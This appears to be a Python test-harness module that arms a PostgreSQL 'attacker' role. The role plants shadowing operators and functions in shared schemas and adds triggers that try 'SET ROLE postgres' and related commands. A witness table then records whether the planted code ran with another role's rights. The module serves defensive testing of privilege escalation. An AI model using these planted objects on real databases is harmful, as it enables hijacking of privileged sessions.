"""A plain role that wants its code to run with the rights of others, and a witness of the rights it had."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import psycopg

from harness.cluster import Cluster
from synthetic.database import OWNER, SCHEMA, copied

ATTACKER = "attacker"
Connection = psycopg.Connection[Any]

# Objects of the attacker's own schema. `witness` may be written by everybody, so that nothing gets lost.
_OBJECTS = """
    CREATE SCHEMA attacker AUTHORIZATION attacker;
    SET ROLE attacker;
    GRANT USAGE ON SCHEMA attacker TO PUBLIC;
    CREATE TABLE attacker.witness (code text, ran_as name);
    GRANT INSERT ON attacker.witness TO PUBLIC;

    CREATE FUNCTION attacker.ran(code text) RETURNS boolean LANGUAGE plpgsql AS $$
    BEGIN
        INSERT INTO attacker.witness VALUES (code, current_user);
        RETURN true;
    END $$;

    -- each in a block of its own; what works is witnessed
    CREATE FUNCTION attacker.try(VARIADIC ways text[]) RETURNS void LANGUAGE plpgsql AS $$
    DECLARE
        way text;
    BEGIN
        FOREACH way IN ARRAY ways LOOP
            BEGIN
                EXECUTE way;
                PERFORM attacker.ran(way);
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
        END LOOP;
    END $$;

    -- tries to win back the rights of the session first
    CREATE FUNCTION attacker.trigger_ran() RETURNS trigger LANGUAGE plpgsql AS $$
    BEGIN
        PERFORM attacker.try('RESET ROLE', 'RESET SESSION AUTHORIZATION', 'SET ROLE postgres',
                             'SET SESSION AUTHORIZATION postgres');
        PERFORM attacker.ran(TG_TABLE_NAME || ' ' || TG_OP || ' ' || TG_WHEN);
        RETURN coalesce(NEW, OLD);
    END $$;
"""

_COMPARISONS = {"=": "eq", "<>": "ne", "<": "lt", "<=": "le", ">": "gt", ">=": "ge"}
_COMPARED = ("text", "bigint", "integer", "boolean", "name", "oid")
_FUNCTIONS = {
    "unnest": ("text[]", "bigint[]", "boolean[]"),
    "count": ("text", "bigint"),
    "max": ("text", "bigint"),
    "coalesce": (),
    "quote_ident": ("text",),
    "quote_literal": ("text",),
    "current_setting": ("text",),
    "format_type": ("oid, integer",),
    "pg_sleep": ("double precision",),
}


def arm(cluster: Cluster, database: str) -> None:
    """Makes the role and its objects. It may create more in `public` and in the homeserver's schema."""
    cluster.create_role(ATTACKER)
    with cluster.connect(database) as connection:
        connection.execute(f"GRANT CREATE, USAGE ON SCHEMA public, {SCHEMA} TO {ATTACKER}")
        connection.execute(_OBJECTS)


@contextmanager
def attacked(cluster: Cluster, template: str) -> Iterator[str]:
    """A copy of a database that is armed. What may be done to a database itself is no part of a copy."""
    with copied(cluster, template, "attacked", OWNER) as name:
        cluster.execute(f"GRANT CREATE, TEMPORARY ON DATABASE attacked TO {ATTACKER}")
        yield name


def plant_names(connection: Connection, schema: str) -> None:
    """Operators, functions and casts with the names and arguments of those that a statement may use."""
    for type_ in _COMPARED:
        for operator, name in _COMPARISONS.items():
            connection.execute(
                f"CREATE FUNCTION {schema}.{name}({type_}, {type_}) RETURNS boolean LANGUAGE sql"
                f" AS $$ SELECT attacker.ran('{type_} {operator}') $$"
            )
            connection.execute(
                f"CREATE OPERATOR {schema}.{operator} (LEFTARG = {type_}, RIGHTARG = {type_},"
                f" FUNCTION = {schema}.{name})"
            )
    for name, signatures in _FUNCTIONS.items():
        for signature in signatures:
            result = "SETOF text" if name == "unnest" else "text"
            connection.execute(
                f"CREATE FUNCTION {schema}.{name}({signature}) RETURNS {result} LANGUAGE sql"
                f" AS $$ SELECT attacker.ran('{name}')::text $$"
            )


def witnessed(cluster: Cluster, database: str) -> set[tuple[str, str]]:
    """(code, role) for everything of the attacker's that ran."""
    return set(cluster.execute("SELECT code, ran_as::text FROM attacker.witness", database))


def victims(cluster: Cluster, database: str) -> set[tuple[str, str]]:
    """What ran with somebody else's rights."""
    return {(code, role) for code, role in witnessed(cluster, database) if role in ("postgres", OWNER)}
